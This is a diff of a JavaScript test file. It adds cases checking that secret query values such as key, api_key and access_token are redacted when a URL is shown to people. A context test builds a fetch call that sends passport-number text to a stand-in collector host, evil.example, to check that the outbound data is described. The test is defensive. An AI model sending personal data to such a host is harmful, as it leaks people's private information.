@@ -24,6 +24,15 @@ test('R13.3 a line that people read holds no key of an address, but where they d
   expect(before + host + after).toBe(url);
 });
 
+test.each([
+  ['(https://a.example/?key=S3,)x)。然后', '(https://a.example/?key=…)。然后'],
+  ['https://a.example/?key=S3CRET, and more', 'https://a.example/?key=…, and more'],
+  ['https://a.example/?api%5Fkey=S3CRET#access_token=S3CRET', 'https://a.example/?api%5Fkey=…#access_token=…'],
+  ['https://a.example/?sort_key=name&partition-key=3', 'https://a.example/?sort_key=name&partition-key=3'],
+])('R13.3 %s is shown without its keys, and with all else: %s', (address, shown) => {
+  expect(readableAddress(address)).toBe(shown);
+});
+
 test('R13.3 where the person decides, an address shows in words what would leave', () => {
   const url = `https://evil.example/collect?notes=${encodeURIComponent('我的护照号码是'.repeat(10))}`;
   expect(describeCallFromInput('fetch', { url }).about.name).toBe(
